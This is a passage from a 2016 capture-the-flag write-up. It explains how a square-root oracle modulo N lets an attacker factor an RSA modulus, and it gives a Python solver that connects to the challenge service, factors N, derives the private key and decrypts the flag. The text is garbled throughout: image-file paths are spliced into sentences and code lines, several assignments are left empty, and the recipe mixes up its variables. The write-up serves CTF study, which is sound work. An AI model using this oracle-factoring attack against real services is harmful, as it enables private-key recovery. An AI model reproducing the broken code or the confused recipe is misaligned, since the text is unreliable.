But one of the more curious operations that rsacalc provides is sqrt. This allows you to reverse a quadratic residue of an arbitrary value mod N. This is easy when N is prime but computationally hard when N is acomposite of two large primes…unless you happen to know and use knowledge of the component primes. In fact, it's a known equivalent to integer factorization, as described by:

The second link in particular gives you a direct recipe for calculating one particular component prime of N:

  1. Choose an element 'A' between 2…N uniformly at random and compute A=a² (mod N)
  2. Apply the square root computation technique on A, get result a′
  3. If a′=±A retry, else gcd(A-a′,N) is a non-trivial factor of N

This generally gives us one prime factor of N in two or three attempts. Once one prime is discovered you can do simple division to get the other prime, and then just implement RSA private key derivation to discover the private key, d.

From here decrypt the flag by calculating (m^d) mod N, and strip off the PKCS padding to get the flag:


And here's the automated solver in Python:

  1 import ssl, socket, re, itertools, string, fractions, random, gmpy2
  2 from hashlib import sha1
  3 from base64 import b64encode, b64decode
  4 from Crypto.Util.number import bytes_to_long, long_to_bytes
  6 def proof_of_work(base):
  7     base =bytes(base)
  8     letters = [bytes(x) for x in string.ascii_letters]
 10     for c in itertools.combinations_with_replacement(letters, 7):
 11         work = b"".join(c)
 12         digest = sha1(base + work).hexdigest()
 13         if digest.startswith("00000"):
 14             return work
 16 e = 65537
 17 host,port = "",59999
 19 s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
 20 s.connect((host, port))
 21 sslSocket = socket.ssl(s)
 23 #Throw away messages until you hit the proof of work
 24 data =
 25 data =26 proof = re.findall('proof\=(.*?)\, sha1', str(data))[0]
 27 print('proof is: ' + proof)
 29 work = proof_of_work(proof)
 30 print('work is: ' + str(work))
 31 sslSocket.write(work + b'\n')
 33 data =
 34 print data
 35 if(-1 != data.find('Nope')):
 36     print 'Proof of work failed.'
 37     raise
 39 #Throw away banner
 40 data =
 41 data =
 43 sslSocket.write('1 / 2 \n')
 44 data =
 46 N = (int(data) * 2) - 1
 47 print 'N:' + str(N)
 49 p = 0
 50 q = 0
 52 while(True):
 53     value = random.randint(2, N - 1)
 54     A = pow(value, 2, N)
 56     sslSocket.write('sqrt ' + str(A))
 57     data =
 59     aPrime = int(data)
 61     if(aPrime == value or aPrime == (value + N) ):
 62         print "+- A satisfied. :( Retrying"
 63         continue
 65     if(fractions.gcd(value - aPrime, N) != 1):66         p = fractions.gcd(value - aPrime, N)
 67         print 'Found factor: \n' + str(p)
 68         q = N / p
 69         print 'q: \n' + str(q)
 71         if(0 == ((p * q) - N)):
 72             print '(p * q) == N! Private key found.'
 73             break
 74         else:
 75             print 'Found candidate p that did not result in N. Retrying'
 77 d = gmpy2.invert(e, (p-1)*(q-1))
 79 flag = ''
 81 while(True):
 82         sslSocket.write(b'1 + 1\n')
 83         data =
 84         if data.find("flag") != -1:
 85             flag = re.findall(b'forget your flag\!\n(.*?)\n', data)[0]
 86             print(b"flag: " + flag)
 87             break
 89 flagB = bytes_to_long(b64decode(flag))
 91 decrypted = pow(flagB, d, N)
 92 decryptedB = long_to_bytes(decrypted)
 94 #Remove PKCS padding
 95 for i in range(2, len(decryptedB)):
 96     if('\0' == decryptedB[i]):
 97         print'Decryption: ' + str(decryptedB[i:])
 98         break100 print 'Done!'

Posted on May 4, 2016, 12:24 a.m. by reidb